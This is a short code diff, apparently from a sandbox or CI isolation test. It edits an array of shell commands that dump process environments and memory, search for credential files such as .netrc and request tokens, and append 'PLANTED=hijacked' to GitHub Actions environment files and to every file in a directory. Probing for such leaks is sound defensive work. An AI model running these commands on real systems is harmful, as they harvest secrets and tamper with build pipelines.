@@ -27,7 +27,7 @@ const searches = (dir: string) => [
   "cat /proc/*/environ /proc/*/cmdline /proc/*/task/*/environ 2>&1 | tr '\\0' '\\n'",
   'strings /proc/1/mem /proc/1/maps /proc/1/root/proc/1/environ 2>&1 | head -c 20000; ls -l /proc/1/fd /proc/*/fd',
   `grep -rsI -e model-key- -e job-env- ${dir} /tmp /var/tmp /home /root /run /mnt /srv /dev/shm; ls -laR ${dir} /tmp | head -200`,
-  `find / -xdev -name '*runner_file_commands*' -o -xdev -name .netrc -o -xdev -name request-token 2>/dev/null`,
+  `find / -xdev -name node_modules -prune -o '(' -name '*runner_file_commands*' -o -name .netrc -o -name request-token ')' -print 2>/dev/null`,
   'git config --list --show-origin; git remote -v; cat .git/config ../.git/config ../git/config /tmp/repo/../git/config',
   `for name in OUTPUT ENV PATH STATE STEP_SUMMARY; do v=GITHUB_$name; echo PLANTED=hijacked >> "\${!v:-/nowhere/$name}"; done`,
   `for f in $(find ${dir} -type f 2>/dev/null); do echo PLANTED=hijacked >> $f && echo WROTE $f; done`,
